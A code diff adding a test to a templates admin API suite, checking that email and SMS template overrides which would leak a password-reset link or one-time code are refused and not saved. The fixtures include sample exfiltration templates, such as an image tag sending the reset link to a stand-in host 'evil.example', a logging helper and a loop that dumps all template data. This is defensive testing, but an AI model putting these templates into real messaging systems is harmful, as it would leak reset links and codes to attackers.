@@ -110,6 +110,39 @@ describe('templates admin API', () => {
     expect(await overrides()).toEqual([]);
   });
 
+  it('refuses an override that would leak the secret link or code, and saves nothing', async () => {
+    const section = (inner: string) => `<mj-section><mj-column>${inner}</mj-column></mj-section>`;
+    const attempts: [string, Record<string, string>, RegExp][] = [
+      [
+        'password-reset',
+        {
+          mjml: section(
+            '<mj-button href="{{link}}">Reset</mj-button><mj-image src="https://evil.example/p.png?x={{link}}" />',
+          ),
+        },
+        /"src" attribute of <img>/,
+      ],
+      [
+        'password-reset',
+        {
+          html: '<html><body><a href="{{link}}">Reset</a><img src="https://evil.example/q?x={{link}}"></body></html>',
+        },
+        /"src" attribute of <img>/,
+      ],
+      ['password-reset', { subject: 'Reset {{link}}' }, /may not be in the subject/],
+      ['otp-code', { sms: '{{code}} {{log code}}' }, /"log" helper is not allowed/],
+      ['otp-code', { sms: '{{code}} {{#each this}}{{this}}{{/each}}' }, /whole data object/],
+    ];
+    for (const [key, body, expected] of attempts) {
+      const res = await h.request('PUT', `/v1/templates/${key}/en`, { token: admin, body });
+      expect([JSON.stringify(body), res.status]).toEqual([JSON.stringify(body), 400]);
+      const problem = (await res.json()) as { code: string; errors: { detail: string }[] };
+      expect(problem.code).toBe('template_invalid');
+      expect(problem.errors.map((e) => e.detail).join('\n')).toMatch(expected);
+    }
+    expect(await overrides()).toEqual([]);
+  });
+
   it('saves a valid override, previews with it, and removes it', async () => {
     const put = await h.request('PUT', '/v1/templates/email-verification/en', { token: admin, body: VALID });
     expect(put.status).toBe(200);
